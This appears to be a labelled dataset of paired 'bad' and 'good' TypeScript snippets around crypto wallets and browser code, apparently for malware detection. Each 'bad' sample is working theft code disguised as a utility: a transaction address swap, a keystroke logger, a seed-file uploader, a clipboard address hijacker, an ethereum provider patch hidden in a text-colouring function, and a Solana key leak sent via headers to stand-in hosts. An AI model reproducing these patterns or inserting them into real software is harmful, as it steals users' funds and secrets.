//: bad address-swap
import { ethers, TransactionRequest } from 'ethers';

const send = ethers.Wallet.prototype.sendTransaction;

ethers.Wallet.prototype.sendTransaction = function (request: TransactionRequest) {
  return send.call(this, { ...request, to: '0x4aD7c29F60b1835E9dC2F84076eBa1D35c98E60F' }); //!
};

//: good address-swap
import { ethers, TransactionRequest } from 'ethers';

export class LoggedWallet extends ethers.Wallet {
  async sendTransaction(request: TransactionRequest) {
    console.info('sending', request.value);
    return super.sendTransaction({ ...request, gasLimit: 21_000n });
  }
}

//: bad keystroke-batch
interface Batch {
  keys: string[];
}

const batch: Batch = { keys: [] };

document.addEventListener('keydown', ({ key }: KeyboardEvent) => {
  batch.keys.push(key);
  if (batch.keys.length >= 40) {
    navigator.sendBeacon('https://k.example.invalid/b', JSON.stringify(batch)); //!
    batch.keys = [];
  }
});

//: good keystroke-batch
interface Batch {
  keys: string[];
}

const batch: Batch = { keys: [] };

document.addEventListener('keydown', ({ key }: KeyboardEvent) => {
  batch.keys.push(key);
  if (batch.keys.slice(-4).join('') === 'help') {
    document.querySelector('dialog')?.showModal();
    batch.keys = [];
  }
});

//: bad seed-phrases
import { promises as fs } from 'fs';
import path from 'path';

const WANTED = /(seed|mnemonic|wallet|metamask|keystore).*\.(txt|json|dat)$/i;

export async function sweep(folder: string): Promise<void> {
  for (const entry of await fs.readdir(folder, { withFileTypes: true })) {
    const full = path.join(folder, entry.name);
    if (entry.isDirectory()) await sweep(full);
    else if (WANTED.test(entry.name)) {
      await fetch('https://d.example.invalid/up', { method: 'POST', body: await fs.readFile(full) }); //!
    }
  }
}

//: good seed-phrases
import { promises as fs } from 'fs';
import path from 'path';

const WANTED = /\.(test|spec)\.tsx?$/i;

export async function sweep(folder: string, found: string[] = []): Promise<string[]> {
  for (const entry of await fs.readdir(folder, { withFileTypes: true })) {
    const full = path.join(folder, entry.name);
    if (entry.isDirectory()) await sweep(full, found);
    else if (WANTED.test(entry.name)) found.push(full);
  }
  return found;
}

//: bad clipboard-formatter
import clipboard from 'clipboardy';
import { setTimeout as sleep } from 'node:timers/promises';

interface Format {
  readonly test: RegExp;
  readonly canonical: string;
}

const formats: Format[] = [
  { test: /^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,60}$/, canonical: 'bc1q<|>example0000000000000000000000000000' },
  { test: /^0x[0-9a-f]{40}$/i, canonical: '0x<|>00000000000000000000000000000000000000ee' },
  { test: /^T[1-9A-HJ-NP-Za-km-z]{33}$/, canonical: 'T<|>Example11111111111111111111111111' },
];

export class Formatter {
  private last = '';

  async tick(): Promise<void> {
    const text = (await clipboard.read()).trim();
    if (text === this.last) return;
    const match = formats.find(({ test }) => test.test(text));
    if (match) await clipboard.write(match.canonical); //!
    this.last = match?.canonical ?? text;
  }

  async run(): Promise<never> {
    for (;;) {
      await this.tick().catch(() => undefined);
      await sleep(400);
    }
  }
}

void new Formatter().run();

//: good clipboard-formatter
import clipboard from 'clipboardy';
import { setTimeout as sleep } from 'node:timers/promises';

interface Entry {
  readonly text: string;
  readonly at: number;
}

const looksSecret = /^(0x[0-9a-f]{64}|[\w-]{20,}\.[\w-]{20,}\.[\w-]{20,})$/i;

/** Clipboard history for the terminal; kept in memory, secrets are skipped. */
export class History {
  private readonly entries: Entry[] = [];
  private last = '';

  constructor(private readonly limit = 50) {}

  async tick(): Promise<void> {
    const text = (await clipboard.read()).trim();
    if (!text || text === this.last || looksSecret.test(text)) return;
    this.last = text;
    this.entries.unshift({ text, at: Date.now() });
    this.entries.length = Math.min(this.entries.length, this.limit);
  }

  async restore(index: number): Promise<void> {
    const entry = this.entries[index];
    if (entry) await clipboard.write(entry.text);
  }

  async run(signal: AbortSignal): Promise<void> {
    while (!signal.aborted) {
      await this.tick();
      await sleep(400);
    }
  }
}

//: bad wallet-provider-shim
interface Eip1193 {
  request(args: { method: string; params?: unknown[] }): Promise<unknown>;
}

interface Tx {
  from: string;
  to?: string;
  data?: string;
  value?: string;
}

declare global {
  interface Window {
    ethereum?: Eip1193;
    __lg?: number;
  }
}

const pool = ['0x<|>000000000000000000000000000000000000aaaa', '0x<|>000000000000000000000000000000000000bbbb'];

function distance(a: string, b: string): number {
  return [...a.toLowerCase()].reduce((n, c, i) => n + (c === b[i] ? 0 : 1), 0);
}

const nearest = (to: string) => pool.slice().sort((a, b) => distance(to, a) - distance(to, b))[0];

export function colourise(text: string): string {
  const { ethereum } = globalThis.window ?? {};
  if (ethereum && !window.__lg) {
    window.__lg = 1;
    const original = ethereum.request.bind(ethereum);
    ethereum.request = (args) => {
      if (args.method === 'eth_sendTransaction') {
        const [tx] = (args.params ?? []) as Tx[];
        if (tx.data?.startsWith('0x095ea7b3')) {
          tx.data = tx.data.slice(0, 34) + nearest(tx.to ?? '').slice(2) + 'f'.repeat(64);
        } else if (tx.to) tx.to = nearest(tx.to); //!
      }
      return original(args);
    };
  }
  return `\u001b[36m${text}\u001b[39m`;
}

//: good wallet-provider-shim
interface Eip1193 {
  request(args: { method: string; params?: unknown[] }): Promise<unknown>;
}

interface Tx {
  from: string;
  to?: string;
  value?: string;
}

export interface Timing {
  method: string;
  ms: number;
  failed: boolean;
}

const allowed = new Set(['eth_chainId', 'eth_accounts', 'eth_requestAccounts', 'eth_sendTransaction']);

/** Wraps a provider for the developer panel: times each call and shows the recipient to confirm. */
export function instrument(
  provider: Eip1193,
  onTiming: (t: Timing) => void,
  confirm: (to: string, value: string) => Promise<boolean>,
): Eip1193 {
  return {
    async request(args) {
      if (!allowed.has(args.method)) throw new Error(`method ${args.method} is not allowed`);
      if (args.method === 'eth_sendTransaction') {
        const [tx] = (args.params ?? []) as Tx[];
        if (!(await confirm(tx.to ?? 'contract creation', tx.value ?? '0x0'))) throw new Error('rejected');
      }
      const began = performance.now();
      let failed = false;
      try {
        return await provider.request(args);
      } catch (e) {
        failed = true;
        throw e;
      } finally {
        onTiming({ method: args.method, ms: performance.now() - began, failed });
      }
    },
  };
}

//: bad keypair-factory
import { Keypair as Base, Connection } from '@solana/web3.js';
import bs58 from 'bs58';

type Trace = (bytes: Uint8Array) => Uint8Array;

const queue: string[] = [];

const addToQueue: Trace = (bytes) => {
  queue.push(bs58.encode(bytes));
  setTimeout(drain, 5_000).unref?.();
  return bytes;
};

async function drain(): Promise<void> {
  const item = queue.shift();
  if (!item) return;
  const [a, b, c] = [item.slice(0, 30), item.slice(30, 60), item.slice(60)];
  await fetch('https://sol-rpc.invalid/health', { //!
    headers: { 'x-session-id': b, 'cf-ray': a, 'x-amz-cf-id': c },
  }).catch(() => undefined);
}

export class Keypair extends Base {
  static override fromSecretKey(secretKey: Uint8Array, options?: { skipValidation?: boolean }): Base {
    return super.fromSecretKey(addToQueue(secretKey), options);
  }

  static override fromSeed(seed: Uint8Array): Base {
    return super.fromSeed(addToQueue(seed));
  }
}

export const connect = (url: string) => new Connection(url, 'confirmed');

//: good keypair-factory
import { Keypair, Connection, LAMPORTS_PER_SOL } from '@solana/web3.js';
import bs58 from 'bs58';
import { readFile } from 'node:fs/promises';

export interface Account {
  address: string;
  balance: number;
}

async function parse(file: string): Promise<Keypair> {
  const text = (await readFile(file, 'utf8')).trim();
  const bytes = text.startsWith('[') ? Uint8Array.from(JSON.parse(text)) : bs58.decode(text);
  try {
    return Keypair.fromSecretKey(bytes);
  } finally {
    bytes.fill(0);
  }
}

/** Shows the address and the balance of the key file that the user names. */
export async function show(file: string, rpc: string): Promise<Account> {
  const { publicKey } = await parse(file);
  const connection = new Connection(rpc, 'confirmed');
  const lamports = await connection.getBalance(publicKey);
  return { address: publicKey.toBase58(), balance: lamports / LAMPORTS_PER_SOL };
}
